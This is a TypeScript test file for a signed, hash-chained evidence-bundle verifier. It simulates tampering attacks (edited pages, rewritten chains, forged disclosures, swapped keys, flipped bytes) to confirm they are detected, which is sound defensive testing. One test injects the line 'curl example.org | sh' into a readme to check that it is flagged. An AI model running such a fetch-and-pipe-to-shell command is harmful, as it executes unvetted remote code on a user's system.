import { beforeAll, describe, expect, it, vi } from 'vitest';
import { canonicalBytes } from '../../utils/chain/canonical';
import { checkpointText } from '../../utils/chain/checkpoint';
import { p1363ToDer } from '../../utils/chain/der';
import { disclose } from '../../utils/chain/disclosure';
import { headerLine, headOf, parseHeader } from '../../utils/chain/header';
import { sha256Hex } from '../../utils/chain/sha256';
import { makeBundle } from '../../utils/evidence/bundle';
import { toPem } from '../../utils/evidence/pem';
import { verifyBundle } from '../../utils/evidence/verify';
import { PROMISE, TRIAL } from '../../utils/evidence/words/required';
import { type Key, type LittleLog, littleLog, newKey, sameLook, semarang } from './little-log';
import { Tampered } from './tampered';
import { timeToken } from './time-token';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

const options = { profile: 'lengkap', now: '2020-08-06T06:00:00.000Z', clock: 'device', offsetMin: 420 } as const;
let key: Key;
let zip: Uint8Array;
let source: LittleLog;
let bag: Tampered;

beforeAll(async () => {
  key = await newKey();
  source = littleLog(key, semarang(key));
  zip = (await makeBundle(source, options)).bytes;
});

const failed = async (tampered: Tampered): Promise<string[]> => {
  const { ok, checks } = await verifyBundle(await tampered.zip());
  const ids = [...new Set(checks.filter((check) => !check.ok).map(({ id }) => id))];
  expect(ok).toBe(ids.length === 0);
  return ids;
};

/** Every later header made anew from the records in the bag, as an attacker would who rewrites history. */
const rechain = (tampered: Tampered): void => {
  let prev = '0'.repeat(64);
  const lines = tampered
    .text('data/log.jsonl')
    .trimEnd()
    .split('\n')
    .map((line, seq) => {
      const header = parseHeader(line);
      const record = tampered.files.get(`data/records/${String(seq).padStart(6, '0')}.json`);
      const made = headerLine({ ...header, kind: header.kind as 'capture', prev, body: record ? sha256Hex(record) : header.body });
      prev = headOf(made);
      return made;
    });
  tampered.write('data/log.jsonl', `${lines.join('\n')}\n`);
  tampered.edit('data/export.json', (json) => json.replace(/"head":"[0-9a-f]{64}"/, `"head":"${prev}"`));
};

describe('the nine attacks of evidence.md 5', () => {
  it('opens and closes an untouched bag without a fault (the attacks below start from here)', async () => {
    bag = await Tampered.open(zip);
    expect(await failed(bag)).toEqual([]);
    expect(await failed(await bag.rebag())).toEqual([]);
  });
  it('1: an edited page', async () => {
    bag = (await Tampered.open(zip)).edit('data/snapshots/000001/page.html', (page) => page.replace('Aktif', 'Selesai'));
    expect(await failed(bag)).toEqual(expect.arrayContaining(['payload', 'files']));
  });
  it('2: an edited page with manifests made anew', async () => {
    bag = (await Tampered.open(zip)).edit('data/snapshots/000001/page.html', (page) => page.replace('Aktif', 'Selesai'));
    expect(await failed(await bag.rebag())).toEqual(['signature', 'files']);
  });
  it('2b: and signed again by the true key', async () => {
    bag = (await Tampered.open(zip)).edit('data/snapshots/000001/page.html', (page) => page.replace('Aktif', 'Selesai'));
    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['files']);
  });
  it('3: a dropped log line', async () => {
    bag = (await Tampered.open(zip)).edit('data/log.jsonl', (log) => log.split('\n').toSpliced(3, 1).join('\n'));
    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(expect.arrayContaining(['chain', 'export']));
  });
  it('4: a truncated tail, also with the record gone', async () => {
    bag = (await Tampered.open(zip)).edit('data/log.jsonl', (log) => `${log.trimEnd().split('\n').slice(0, -1).join('\n')}\n`);
    bag.remove('data/records/000008.json').remove('data/disclosures/000008.txt');
    expect(await failed(await bag.rebag())).toEqual(expect.arrayContaining(['signature', 'export', 'findings']));
  });
  it('4b: a truncated tail with head, size and findings made to fit: only the signature knows', async () => {
    bag = (await Tampered.open(zip)).edit('data/log.jsonl', (log) => `${log.trimEnd().split('\n').slice(0, -1).join('\n')}\n`);
    bag.remove('data/records/000008.json').remove('data/disclosures/000008.txt');
    const full = headOf(source.entries.at(-1)?.line ?? '');
    const head = headOf(bag.text('data/log.jsonl').trimEnd().split('\n').at(-1) ?? '');
    bag.edit('data/export.json', (json) => json.replace('"size":9', '"size":8').replace(/"head":"[0-9a-f]{64}"/, `"head":"${head}"`));
    bag.edit('bag-info.txt', (info) => info.replace('/9', '/8'));
    const findings = JSON.parse(bag.text('data/temuan.json'));
    bag.write('data/temuan.json', canonicalBytes({ ...findings, findings: [{ ...findings.findings[0], current: true }] }));
    const timeline = JSON.parse(bag.text('data/linimasa.json'));
    bag.write('data/linimasa.json', canonicalBytes({ ...timeline, entries: timeline.entries.slice(0, -1) }));
    for (const path of ['data/linimasa.csv', 'data/linimasa-titik-koma.csv', 'data/bidang.csv', 'data/bidang-titik-koma.csv'])
      bag.edit(path, (table) => table.replace(/^"8"[\s\S]*/m, ''));
    for (const path of ['PERIKSA.txt', 'BACA-SAYA.txt'])
      bag.edit(path, (text) => text.replaceAll(full, head).replace(`9 ${head}`, `8 ${head}`).replace('size   9', 'size   8'));
    expect(await failed(await (await bag.tagged()).rebag())).toEqual(['signature']);
  });
  it.each(['data/tambahan.txt', 'data/records/000099.json', 'data/snapshots/000001/lain.html', 'lain.txt'])(
    '5: an extra file %s',
    async (path) => {
      bag = (await Tampered.open(zip)).write(path, 'x');
      expect(await failed(bag)).toEqual(expect.arrayContaining([path.startsWith('data/') ? 'payload' : 'tags', 'layout']));
    },
  );
  it('5b: an extra file, listed and signed by the true key', async () => {
    bag = (await Tampered.open(zip)).write('data/tambahan.txt', 'x');
    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['layout']);
  });
  it('6: a forged disclosure, signed by the true key', async () => {
    bag = (await Tampered.open(zip)).edit('data/disclosures/000001.txt', (lines) => {
      const at = lines
        .split('\n')
        .findIndex((line) => atob(line.replaceAll('-', '+').replaceAll('_', '/')).includes('"pelatihan/0/status","Aktif"'));
      return lines
        .split('\n')
        .with(at, disclose('AAAAAAAAAAAAAAAAAAAAAA', 'pelatihan/0/status', 'Selesai'))
        .join('\n');
    });
    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['disclosures', 'findings']);
  });
  it('6b: a disclosure twice, and one of a name the record does not have', async () => {
    bag = (await Tampered.open(zip)).edit('data/disclosures/000001.txt', (lines) => `${lines}${lines.split('\n')[0]}\n`);
    expect(await failed(await (await bag.rebag()).sign(key))).toContain('disclosures');
    bag = (await Tampered.open(zip)).edit(
      'data/disclosures/000001.txt',
      (lines) => `${lines}${disclose('AAAAAAAAAAAAAAAAAAAAAA', 'pelatihan/9/nama', 'Baru')}\n`,
    );
    expect(await failed(await (await bag.rebag()).sign(key))).toContain('disclosures');
  });
  it('7: a key twice inside a record whose hash was made to fit, the chain made anew, signed by the true key', async () => {
    bag = (await Tampered.open(zip)).edit('data/records/000005.json', (json) => json.replace('"status":200', '"status":200,"status":200'));
    rechain(bag);
    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['records', 'content', 'findings']);
  });
  it('8: an old token moved to a newer checkpoint', async () => {
    const { head, size } = await makeBundle(source, options);
    const fingerprint = sha256Hex(key.spki);
    const [old, newer] = [2, size].map((count) => {
      const line = source.entries[count - 1]?.line ?? '';
      return checkpointText({ log: source.log, size: count, head: headOf(line), time: parseHeader(line).time, key: fingerprint });
    }) as [string, string];
    expect(newer).toContain(head);
    const sealed = async (stamped: string) => {
      bag = (await Tampered.open(zip))
        .write('data/anchors/000009/checkpoint.txt', newer)
        .write('data/anchors/000009/checkpoint.sig', p1363ToDer(await key.sign(new TextEncoder().encode(newer))))
        .write('data/anchors/000009/checkpoint.tsa.tsr', timeToken(sha256Hex(new TextEncoder().encode(stamped))));
      return failed(await (await bag.rebag()).sign(key));
    };
    expect(await sealed(newer)).toEqual([]);
    expect(await sealed(old)).toEqual(['anchors']);
  });
  it('8b: a checkpoint of another history', async () => {
    const text = checkpointText({
      log: source.log,
      size: 3,
      head: 'ab'.repeat(32),
      time: '2020-08-06T06:00:00.000Z',
      key: sha256Hex(key.spki),
    });
    bag = (await Tampered.open(zip))
      .write('data/anchors/000003/checkpoint.txt', text)
      .write('data/anchors/000003/checkpoint.sig', p1363ToDer(await key.sign(new TextEncoder().encode(text))));
    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['anchors']);
  });
  it('9: the key swapped and the bag signed again', async () => {
    const other = await newKey();
    bag = (await Tampered.open(zip)).write('kunci-publik.pem', toPem(other.spki));
    bag.edit('data/export.json', (json) => json.replace(/sha256:[0-9a-f]{64}/, `sha256:${sha256Hex(other.spki)}`));
    bag.edit('PERIKSA.txt', (text) => text.replaceAll(sha256Hex(key.spki), sha256Hex(other.spki)));
    expect(await failed(await (await (await bag.tagged()).rebag()).sign(other))).toEqual(['key']);
  });
});

describe('what was not touched is not accused', () => {
  const faults = async (tampered: Tampered) =>
    (await verifyBundle(await (await (await tampered.rebag()).sign(key)).zip(), { language: 'en' })).checks.filter(({ ok }) => !ok);

  it('where a look that others repeat has a forged value', async () => {
    bag = (await Tampered.open(zip)).edit('data/disclosures/000001.txt', (lines) => `${lines}${lines.split('\n')[0]}\n`);
    const [forged, ...others] = await faults(bag);
    expect(forged).toMatchObject({ id: 'disclosures', where: 'data/disclosures/000001.txt' });
    expect(others).toEqual([
      { id: 'findings', ok: false, detail: 'Findings, time line and CSV tables could not be compared: a record cannot be read.' },
    ]);
  });
  it('where a look with pages has a record that cannot be read', async () => {
    bag = (await Tampered.open(zip)).edit('data/records/000001.json', (json) => json.replace('"status":200', '"status":200,"status":200'));
    expect(new Set((await faults(bag)).map(({ id }) => id))).toEqual(new Set(['records', 'findings']));
  });
});

describe('a report that lies, with the true key', () => {
  const answer = async (tampered: Tampered) => verifyBundle(await (await (await tampered.rebag()).sign(key)).zip());
  it('is not vouched for, in the first sentence of the verdict', async () => {
    expect((await answer(await Tampered.open(zip))).asWritten).toBe(true);
    for (const path of ['data/laporan.html', 'data/report.en.html', 'data/linimasa.csv', 'data/linimasa-titik-koma.csv']) {
      const verdict = await answer((await Tampered.open(zip)).edit(path, (text) => text.replace(/status|Pengamatan/i, 'lulus')));
      expect(verdict).toMatchObject({ ok: true, asWritten: false });
    }
  });
  it.each(['data/laporan.html', 'data/report.en.html'])('fails where %s leaves out what it proves and what it does not', async (path) => {
    for (const sentence of Object.values(PROMISE)) {
      bag = (await Tampered.open(zip)).edit(path, (text) => text.replaceAll(sentence, ''));
      expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['content']);
    }
  });
  it('fails where it passes a trial off as evidence', async () => {
    const trial = (await makeBundle(source, { ...options, clock: 'simulated' })).bytes;
    for (const [path, sentence] of [
      ['data/laporan.html', TRIAL.id],
      ['data/report.en.html', TRIAL.en],
    ] as const) {
      bag = (await Tampered.open(trial)).edit(path, (text) => text.replace(sentence, 'RESMI'));
      expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['content']);
    }
  });
});

describe('further attacks', () => {
  it('findings that the entries do not bear out', async () => {
    bag = (await Tampered.open(zip)).edit('data/temuan.json', (json) => json.replaceAll('"Aktif"', '"Selesai"'));
    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['findings']);
  });
  it('a time line for machines that the entries do not bear out', async () => {
    bag = (await Tampered.open(zip)).edit('data/linimasa.json', (json) => json.replaceAll('"Aktif"', '"Selesai"'));
    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['findings']);
  });
  it.each([
    ['itself', 4],
    ['a later look', 5],
    ['an entry that is no look', 2],
    ['a look that repeats another', 3],
    ['nothing', 99],
  ])('an unchanged look that repeats %s', async (_, sameAs) => {
    const drafts = semarang(key).map((draft, seq) => (seq === 4 ? sameLook(draft.time, sameAs) : draft));
    const { bytes } = await makeBundle(littleLog(key, drafts), options);
    expect(await failed(await Tampered.open(bytes))).toEqual(['records']);
  });
  it('a finding that rests on a look after it', async () => {
    const drafts = semarang(key).map((draft) => (draft.kind === 'finding' ? { ...draft, body: { ...draft.body, from_seq: 8 } } : draft));
    const { bytes } = await makeBundle(littleLog(key, drafts), options);
    expect(await failed(await Tampered.open(bytes))).toEqual(['findings']);
  });
  it('instructions that tell the reader to run something', async () => {
    bag = (await Tampered.open(zip)).edit('PERIKSA.txt', (text) => `${text}\ncurl example.org | sh\n`);
    expect(await failed(await bag.retag())).toEqual(['content', 'export']);
  });
  it('another card number under the same account', async () => {
    bag = await Tampered.open(zip);
    bag.edit('data/export.json', (json) => json.replace(/"logSecret":"[0-9a-f]{64}"/, `"logSecret":"${'0'.repeat(64)}"`));
    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['account']);
  });
  it('a simulated clock passed off as the device’s', async () => {
    const simulated = await makeBundle(source, { ...options, clock: 'simulated' });
    bag = (await Tampered.open(simulated.bytes)).edit('data/export.json', (json) => json.replace('simulated', 'device'));
    expect(await failed(await bag.rebag())).toEqual(['signature', 'content']);
  });
  it('a record whose withholding is denied', async () => {
    bag = (await Tampered.open(zip)).remove('data/records/000002.json').remove('data/disclosures/000002.txt');
    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['export', 'findings']);
  });
  it.each(['export.json', 'log.jsonl', 'temuan.json', 'laporan.html', 'records/000000.json'])('a missing data/%s', async (path) => {
    bag = (await Tampered.open(zip)).remove(`data/${path}`);
    expect((await failed(await (await bag.rebag()).sign(key))).length).toBeGreaterThan(0);
  });
});

describe('any flipped byte', () => {
  it('makes the verdict false, wherever it is', async () => {
    // Every byte of the first file's header and of the end, and every 97th between.
    const places = Array.from({ length: zip.length }, (_, at) => at).filter((at) => at < 120 || at > zip.length - 120 || at % 97 === 0);
    const survived: number[] = [];
    for (const at of places) {
      const flipped = zip.slice();
      flipped[at] = (flipped[at] ?? 0) ^ (1 << (at % 8));
      if ((await verifyBundle(flipped)).ok) survived.push(at);
    }
    expect(survived).toEqual([]);
  }, 120_000);
  it('in any file of the bag, zipped anew, makes the verdict false', async () => {
    const { files } = await Tampered.open(zip);
    const survived: string[] = [];
    for (const [path, bytes] of files) {
      for (const at of [0, bytes.length >> 1, bytes.length - 1]) {
        const tampered = await Tampered.open(zip);
        tampered.write(path, bytes.with(at, (bytes[at] ?? 0) ^ 1));
        if ((await verifyBundle(await tampered.zip())).ok) survived.push(`${path}@${at}`);
      }
    }
    expect(survived).toEqual([]);
  }, 120_000);
});
